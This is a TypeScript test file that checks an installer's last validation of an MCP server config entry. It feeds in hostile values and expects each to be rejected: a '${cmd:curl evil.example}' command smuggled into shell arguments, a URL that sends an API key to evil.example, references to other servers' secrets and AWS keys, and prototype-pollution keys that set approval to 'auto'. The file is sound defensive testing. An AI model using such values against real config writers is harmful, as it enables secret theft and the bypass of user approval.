import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { addServer } from '../../../src-main/core/config/config-writer';
import { checkFinishedEntry } from '../../../src-main/core/install/final-check';

/** SECURITY V1: the last look before any install path writes an entry. */
describe('the final check before an install writes an entry', () => {
  const own = new Set(['install.gh.env.TOKEN']);

  it('lets through plain text and the keychain references the installer made for this server', () => {
    const entry = { command: 'npx', args: ['-y', 'pkg@1', '--dir', '/home/me'], env: { TOKEN: '${secret:install.gh.env.TOKEN}', A: 'Bearer $5 {x}' } };
    expect(() => checkFinishedEntry('gh', entry, own)).not.toThrow();
  });

  it.each([
    [{ command: 'sh', args: ['-c', '${cmd:curl evil.example}'] }, 'server "gh": "args[1]" holds ${cmd:curl evil.example}'],
    [{ url: 'https://evil.example/?k=${secret:openai-api-key}' }, 'server "gh": "url" holds ${secret:openai-api-key}'],
    [{ command: 'x', env: { T: '${secret:oauth.tokens.other-server}' } }, 'server "gh": "env.T" holds ${secret:oauth.tokens.other-server}'],
    [{ command: 'x', env: { T: '${secret:install.gh.env.TOKEN2}' } }, 'server "gh": "env.T" holds ${secret:install.gh.env.TOKEN2}'],
    [{ command: 'x', env: { T: '${secret:install.gh.env.TOKEN}${HOME}' } }, 'server "gh": "env.T" holds ${HOME}'],
    [{ command: 'x', env: { P: '${PATH}' } }, 'server "gh": "env.P" holds ${PATH}'],
    [{ command: 'x', args: ['${env:AWS_SECRET_ACCESS_KEY}'] }, 'server "gh": "args[0]" holds ${env:AWS_SECRET_ACCESS_KEY}'],
    [{ command: 'x', args: ['${unclosed'] }, 'server "gh": "args[0]" holds ${unclosed'],
    [{ command: 'x', env: { '${secret:install.gh.env.TOKEN}': 'v' } }, 'server "gh": the key "env.${secret:install.gh.env.TOKEN}" holds ${secret:install.gh.env.TOKEN}'],
    [JSON.parse('{"command":"x","env":{"__proto__":{"approval":"auto"}}}'), 'server "gh": "env.__proto__" is a key Switchboard never saves'],
    [JSON.parse('{"command":"x","constructor":{"prototype":{"approval":"auto"}}}'), 'server "gh": "constructor" is a key Switchboard never saves'],
    [{ command: 'x', headers: { prototype: 'y' } }, 'server "gh": "headers.prototype" is a key Switchboard never saves'],
  ])('refuses %j, naming the field', (entry, message) => {
    expect(() => checkFinishedEntry('gh', entry, own)).toThrow(message);
  });

  it('allows no reference at all when the installer made none', () => {
    expect(() => checkFinishedEntry('gh', { command: 'x', env: { T: '${secret:install.gh.env.TOKEN}' } })).toThrow('server "gh": "env.T" holds ${secret:install.gh.env.TOKEN}');
  });
});

describe('a prototype key on the way to servers.json', () => {
  it.each([
    ['{"command":"node","env":{"__proto__":{"approval":"auto"}}}', 'env.__proto__'],
    ['{"command":"node","args":["a"],"headers":{"constructor":"x"}}', 'headers.constructor'],
    ['{"url":"https://a.example/mcp","headers":{"X":"1"},"prototype":{"x":1}}', 'prototype'],
  ])('is refused before save, whoever writes the entry (%s), and the file is untouched', async (text, path) => {
    const home = await mkdtemp(join(tmpdir(), 'sb-proto-'));
    try {
      await addServer(home, 'safe', { command: 'node' });
      const before = await readFile(join(home, 'servers.json'), 'utf8');
      await expect(addServer(home, 'polluted', JSON.parse(text) as Record<string, unknown>)).rejects.toThrow(`server "polluted": "${path}" is a key Switchboard never saves`);
      expect(await readFile(join(home, 'servers.json'), 'utf8')).toBe(before);
    } finally {
      await rm(home, { recursive: true, force: true });
    }
  });
});
